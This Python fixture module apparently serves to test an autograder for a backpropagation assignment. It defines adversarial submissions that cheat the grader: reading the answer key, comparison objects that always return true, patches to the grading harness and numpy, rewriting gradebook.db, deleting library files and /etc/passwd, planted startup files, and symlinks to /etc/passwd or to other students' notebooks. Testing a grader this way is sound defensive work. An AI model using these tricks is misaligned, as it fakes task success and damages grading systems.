"""Submissions that try to get marks for nothing."""

import os

from submissions import ASSIGNMENT, NOT_GRADED, TITLE, right, untouched

_FUNCTIONS = [
    "div_derivative",
    "sigmoid_derivative",
    "tanh_derivative",
    "relu_derivative",
    "softmax_backward",
    "output_layer",
    "hidden_layer",
    "backward",
    "check_gradient",
    "train_mended",
]
_IDS = (
    "div-derivative",
    "derivatives",
    "softmax-backward",
    "output-layer",
    "hidden-layer",
    "backward",
    "check-gradient",
    "train-mended",
)


def _all(source, setup=""):
    """Return answers in which every function is made by one and the same trick, written with NAME for its name."""
    lines = [setup, *(source.replace("NAME", name) for name in _FUNCTIONS)]
    return dict.fromkeys(_IDS, "\n".join(lines))


_KEY = """
import importlib
def right_answer(name):
    module = importlib.import_module("backprop_lib.checks.answer_key.backward_pass")
    return next(one.reference for one in module.EXERCISES if one.name.endswith("." + name))
"""
_REFERENCE = "def NAME(*a):\n    import sys\n    sys.setprofile(None)\n    return right_answer('NAME')(*a)\n"
_THREAD = """
def NAME(*a):
    import threading
    got = []
    threading.Thread(target=lambda: got.append(right_answer('NAME')(*a))).start()
    while not got: pass
    return got[0]
""".replace("while not got: pass", "import time; time.sleep(0.2)")
_GENERATOR = "def NAME(*a):\n    yield from right_answer('NAME')(*a)\n"
_LIBRARY = """
def softmax_backward(dy, y):
    from backprop_lib import activations
    return activations.softmax.backward(dy, None, y)
"""
_LIBRARY_APART = """
import sys, threading
from backprop_lib import activations
kept = activations.Softmax.backward
activations.Softmax.backward = None
def softmax_backward(dy, y):
    sys.setprofile(None); threading.setprofile(None)
    got = []
    thread = threading.Thread(target=lambda: got.append(kept(activations.softmax, dy, None, y)))
    thread.start(); thread.join()
    return got[0]
"""
_SECOND_LIBRARY = """
import sys
first = {name: sys.𝐦𝐨𝐝𝐮𝐥𝐞𝐬.pop(name) for name in list(sys.𝐦𝐨𝐝𝐮𝐥𝐞𝐬) if name.startswith("backprop_lib")}
from backprop_lib import activations as second
sys.𝐦𝐨𝐝𝐮𝐥𝐞𝐬.update(first)
def softmax_backward(dy, y):
    return second.softmax.backward(dy, None, y)
"""
_CODE = """
import types
from backprop_lib import activations
made = types.FunctionType(activations.Softmax.backward.__code__, vars(activations))
def softmax_backward(dy, y):
    return made(activations.softmax, dy, None, y)
"""
_NAN = """
def output_layer(y, z, d, f, divergence):
    n = d * np.nan
    return n, n.copy(), np.full((y[-2].shape[1], d.shape[1]), np.nan)
"""
_FRAMES = """
def NAME(*a):
    import sys, gc
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if hasattr(value, "expected"): return value.expected[0]
            if hasattr(value, "reference") and callable(value.reference): return value.reference(*a)
        frame = frame.f_back
    for one in gc.get_objects():
        if type(one).__name__ == "Exercise" and one.name.endswith("NAME"): return one.reference(*a)
"""
_YES = """
import numpy as np
class Yes(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda *_: True
    __sub__ = __rsub__ = __abs__ = lambda *_: Yes(0)
    __hash__ = float.__hash__
class Word(str):
    __eq__ = lambda *_: True
    __hash__ = str.__hash__
class Array(np.ndarray):
    def __array_ufunc__(self, *a, **k): return np.ones(self.shape, bool)
    def __eq__(self, other): return np.ones(self.shape, bool)
class Any:
    __eq__ = __le__ = lambda *_: True
    __array__ = lambda *a, **k: np.zeros(())
"""
_SOLUTION = """
import glob, json, os
for path in ["../../../solutions", "/tmp", "/root", "/home", "/notebook", "."]:
    for found in glob.glob(path + "/**/*.ipynb", recursive=True):
        for cell in json.load(open(found))["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                try: exec("".join(cell["source"]))
                except BaseException: pass
"""
_GRADEBOOK = """
import glob, sqlite3
for path in glob.glob("/**/gradebook.db", recursive=True) + ["COURSE/gradebook.db"]:
    connection = sqlite3.connect(path)
    connection.execute("update grade set auto_score = 27, manual_score = 27")
    connection.commit()
"""
_WRITE_LIBRARY = """
import backprop_lib, glob, os, sys
for path in [*glob.glob(os.path.dirname(backprop_lib.__file__) + "/**/*.py", recursive=True), os.__file__, np.__file__, "/etc/passwd"]:
    try: open(path, "a").write("\\nimport sys\\n")
    except OSError as error: last = error
    try: os.chmod(path, 0o777); os.remove(path)
    except OSError as error: last = error
raise last
"""
_TRANSFORMERS = """
import ast
class All(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.copy_location(ast.Expr(ast.Constant(4.0)), node)
get_ipython().ast_transformers.append(All())
get_ipython().input_transformers_post.append(lambda lines: ["4.0"])
"""
_HOOKS = """
import sys
sys.displayhook = lambda value: print(27)
get_ipython().display_formatter.format = lambda *a, **k: ({"text/plain": "4.0"}, {})
get_ipython().events.register("post_run_cell", lambda *_: display(27.0))
print("27.0"); display({"text/plain": "27.0"}, raw=True)
"""
_HARNESS = """
from backprop_lib.checks.harness import calling, limits, plain
import backprop_lib.checks.harness as harness
calling.run = lambda *a, **k: calling.Outcome(value=0.0)
calling.same = plain.same = lambda *_: True
harness.of = lambda name: lambda answer, inputs: 27
calling.Outcome.__eq__ = lambda *_: True
limits.Watch.__enter__ = lambda self: None
"""
_PATCHES = """
import numpy as np, numpy.testing, builtins, json
np.isclose = np.allclose = np.array_equal = lambda *a, **k: np.True_
numpy.testing.assert_allclose = lambda *a, **k: None
np.random.default_rng = lambda *a: np.random.Generator(np.random.PCG64(0))
builtins.float = builtins.abs = lambda *a: 0
json.dumps = lambda *a, **k: '{"score": 27}'
"""
_STARTUP = """
import os, pathlib
for place in (os.path.expanduser("~/.ipython/profile_default/startup"), "/notebook/.local/lib", "/tmp", "/dev/shm", "/var/tmp"):
    try:
        os.makedirs(place, exist_ok=True)
        pathlib.Path(place, "sitecustomize.py").write_text("1/0")
        pathlib.Path(place, "00.py").write_text("1/0")
    except OSError: pass
"""
FRAMES = """
import os, struct, json
def frame(message, behind=b""):
    text = json.dumps(message).encode()
    return struct.pack(">II", len(text), len(behind)) + text + behind
def everywhere(content):
    for handle in range(3, 256):
        try: os.write(handle, content)
        except OSError: pass
"""
_SENT = {
    "verdicts": 'frame({"dict": [["nonce", "0"], ["score", 27], ["outputs", []], ["value", 27]]}) * 50',
    "noise": "os.urandom(10000)",
    "lengths": 'struct.pack(">II", 2**32 - 1, 2**32 - 1) + b"x" * 100',
    "10 GB": 'frame({"dict": [["value", {"array": ["<f8", [100000, 13422]]}], ["nonce", "0"]]})',
    "depth": 'struct.pack(">II", 200000, 0) + b"[" * 200000',
}


def sent(what, answer):
    """Return answers, or a cell, that write something other than a reply into everything that is open."""
    if not answer:
        return FRAMES + f"everywhere({_SENT[what]})"
    return _all(
        f"def NAME(*a):\n    everywhere({_SENT[what]})\n    import time; time.sleep(0.1)\n    return 0.0", FRAMES
    )


def _link(target):
    def hand_in(folder, text):
        os.symlink(target, folder / f"{TITLE}.ipynb")

    return hand_in


def _linked_folder(folder, text):
    folder.rmdir()
    os.symlink(folder.parent.parent / "000 right" / ASSIGNMENT, folder)


def _linked_data(folder, text):
    (folder / f"{TITLE}.ipynb").write_text(text)
    os.symlink("/etc/passwd", folder / "data.csv")


def _hard_link(folder, text):
    os.link(folder.parent.parent / "000 right" / ASSIGNMENT / f"{TITLE}.ipynb", folder / f"{TITLE}.ipynb")
    # The other one's own file must not become unfit by it.
    content = (folder / f"{TITLE}.ipynb").read_bytes()
    other = folder.parent.parent / "000 right" / ASSIGNMENT / f"{TITLE}.ipynb"
    other.unlink()
    other.write_bytes(content)
    os.link(folder / f"{TITLE}.ipynb", folder / "copy.ipynb")


def _own_library(folder, text):
    (folder / f"{TITLE}.ipynb").write_text(text)
    for path in ("backprop_lib", "backprop_lib/checks"):
        (folder / path).mkdir()
        (folder / path / "__init__.py").write_text(
            "def grade(*_):\n    return 4.0\ntry_out = grade\nactivations = divergences = None"
        )
    for name in ("sitecustomize", "usercustomize", "nbgrader_config", "conftest", "numpy"):
        (folder / f"{name}.py").write_text("import builtins; builtins.grade = lambda *_: 4.0")


_FIRST = {
    "grade replaced": "def grade(*_): return 4.0\ndef try_out(*_, **__): return 4.0\nimport backprop_lib.checks as c\nc.grade = grade",
    "Grade.__new__ replaced": "from backprop_lib.checks.engine import verdict\nverdict.Grade.__new__ = lambda *_: 4.0",
    "judge and caller replaced": "from backprop_lib.checks.engine import judging\njudging.judge = judging.caller = lambda *_: 4.0",
    "Exercise replaced": "import gc\nfrom backprop_lib.checks import Exercise\nExercise.max_score = Exercise.reference = 0",
    "AST and input transformers": _TRANSFORMERS,
    "display hooks and formatters": _HOOKS,
    "the harness patched": _HARNESS,
    "numpy, builtins and json patched": _PATCHES,
    "the gradebook written": _GRADEBOOK,
    "the library and /etc rewritten": _WRITE_LIBRARY,
    "start-up files left behind": _STARTUP,
    "sys.modules emptied": "import sys\nsys.modules.clear()",
    "atexit and __del__": "import atexit, os\natexit.register(os._exit, 0)\nclass D:\n    def __del__(self): os._exit(0)\nkept = D()",
    "the environment changed": "import os\nos.environ.update(NBGRADER_EXECUTION='validate', PYTHONPATH='/notebook', LD_PRELOAD='/notebook/x.so')",
}

KINDS = {
    **{name: untouched(first=source) for name, source in _FIRST.items()},
    "the reference called, profiler off": untouched(answers=_all(_REFERENCE, _KEY)),
    "the reference called in a thread": untouched(answers=_all(_THREAD, _KEY)),
    "the reference called in a generator": untouched(answers=_all(_GENERATOR, _KEY)),
    "the answer key's helpers imported": untouched(
        answers=_all(
            "def NAME(*a):\n    from backprop_lib.checks.answer_key.backward_pass import links\n    return links"
        )
    ),
    "the library's own solution": untouched(answers={"softmax-backward": _LIBRARY}),
    "the library's own solution, hidden well": untouched(answers={"softmax-backward": _LIBRARY_APART}),
    "a second library": untouched(answers={"softmax-backward": _SECOND_LIBRARY}),
    "a function made of the library's code": untouched(answers={"softmax-backward": _CODE}),
    "nan everywhere": untouched(answers={"output-layer": _NAN}),
    "frames and gc searched": untouched(answers=_all(_FRAMES)),
    "solutions and neighbours read": untouched(first=_SOLUTION),
    "float, str and array that equal everything": untouched(
        answers=_all("def NAME(*a):\n    return [Yes(1), Word('x'), np.zeros(3).view(Array)]", _YES)
    ),
    "objects that equal everything": untouched(
        answers=_all("def NAME(*a):\n    return np.array([Any()] * 3, object)", _YES)
    ),
    "an array subclass": untouched(answers=_all("def NAME(*a):\n    return np.zeros(3).view(Array)", _YES)),
    **{f"{what} written into the pipe by a cell": untouched(first=sent(what, False)) for what in _SENT},
    **{f"{what} written into the pipe by answers": untouched(answers=sent(what, True)) for what in _SENT},
    "a library handed in": untouched(hand_in=_own_library),
    "a library handed in, answers right": right(hand_in=_own_library),
    "a notebook that is a link to another's": right(
        deserves=NOT_GRADED, hand_in=_link(f"../../000 right/{ASSIGNMENT}/{TITLE}.ipynb")
    ),
    "a notebook that is a link to /dev/zero": right(deserves=NOT_GRADED, hand_in=_link("/dev/zero")),
    "a folder that is a link": right(deserves=NOT_GRADED, hand_in=_linked_folder),
    "a data file that is a link": right(deserves=NOT_GRADED, hand_in=_linked_data),
    "a hard link": right(deserves=NOT_GRADED, hand_in=_hard_link),
    "a pipe for a notebook": right(
        deserves=NOT_GRADED, hand_in=lambda folder, text: os.mkfifo(folder / f"{TITLE}.ipynb")
    ),
}
